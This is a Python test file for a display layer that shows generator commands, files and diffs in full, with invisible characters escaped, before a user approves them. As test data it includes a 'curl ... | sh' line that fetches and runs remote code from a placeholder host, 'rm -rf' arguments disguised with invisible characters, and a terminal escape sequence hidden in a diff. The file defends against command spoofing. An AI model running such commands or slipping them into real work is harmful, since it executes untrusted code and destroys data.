"""What is shown before programs are allowed: everything, uncut, with nothing invisible in it."""

from __future__ import annotations

import time

import pytest
from addon_parts import trust_words
from hypothesis import given
from hypothesis import strategies as st

LONG = "curl -s https://example.invalid/" + "a" * 5000 + " | sh"


def document(**table: object) -> dict:
    return {
        "trusted": False,
        "generators": [{"name": "command:paint", "table": table, "code": []}],
        "items": [
            {"kind": "regen.toml", "path": "regen.toml", "hash": "blake3:00", "change": "new", "staged": False},
            {"kind": "code", "path": "tools/paint.py", "hash": "blake3:01", "change": "changed", "staged": True},
            {"kind": "code", "path": "tools/old.py", "hash": "blake3:02", "change": "trusted", "staged": False},
        ],
        "difference": "--- old\n+++ new\n+import os\x1b[2J\n",
    }


def shown(of: object) -> str:
    return "".join(line.text for line in trust_words.shown_lines(of))


def test_every_key_and_the_whole_of_each_value():
    text = shown(document(uses="command", argv=["sh", "-c", LONG], env=["SECRET"], cwd=" odd ", timeout=3))
    for part in ('uses = "command"', LONG, 'env = ["SECRET"]', 'cwd = " odd "', "timeout = 3", "tools/paint.py (changed, as staged)", "regen.toml (new)"):
        assert part in text
    assert "old.py" not in text, "allowed before"


@pytest.mark.parametrize("char", ["\u202e", "\u200b", "\u2066", "\ufeff", "\x1b", "\x00", "\n", "\r", "\u00a0", "\u2028", "\U000e0041", "\ud800", "\u3164", "\u2800", "\ufe0f", "\u034f"])
def test_what_cannot_be_seen_is_a_number(char):
    found = document(argv=[f"rm{char}-rf"], **{f"k{char}": 1})
    found["generators"][0]["name"] = f"command:{char}x"
    found["items"][0]["path"] = f"a{char}b.py"
    text = shown(found)
    assert char not in text and "rm-rf" not in text
    assert all(each.isprintable() for line in trust_words.shown_lines(found) for each in line.text)
    assert trust_words.full_text(found).encode("utf-8")


def test_a_name_is_not_taken_for_something_else():
    found = document(**{'argv = ["ls"]': ["rm"], " env": 1, "größe": 2})
    found["generators"][0]["name"] = "command:paint (trusted) "
    found["items"][0]["path"] = "a.py\t(trusted)"
    text = shown(found)
    for part in ('"argv = [\\"ls\\"]" = ["rm"]', '" env" = 1', "größe = 2", '"command:paint (trusted) "', '"a.py\\t(trusted)" (new)'):
        assert part in text


def test_ten_megabytes_are_shown_in_a_moment():
    began = time.process_time()
    lines = trust_words.shown_lines(document(argv=["x" * 10_000_000]))
    assert sum(len(line.text) for line in lines) > 10_000_000 and time.process_time() - began < 5


def test_the_text_has_the_lines_and_the_difference():
    text = trust_words.full_text(document(argv=["paint"]))
    assert "command:paint\n    argv = [\"paint\"]\n" in text and "+import os\\u001b[2J" in text


def test_counts():
    assert trust_words.counts(document()) == (1, 2)


_JSON = st.recursive(st.none() | st.booleans() | st.floats() | st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner), max_leaves=8)


@given(_JSON | st.fixed_dictionaries({"generators": _JSON, "items": _JSON, "difference": _JSON}))
def test_any_answer_is_shown_somehow(answer):
    trust_words.counts(answer)
    for line in trust_words.shown_lines(answer):
        assert len(line.text) <= 200 and line.text.isprintable()
    trust_words.full_text(answer).encode()
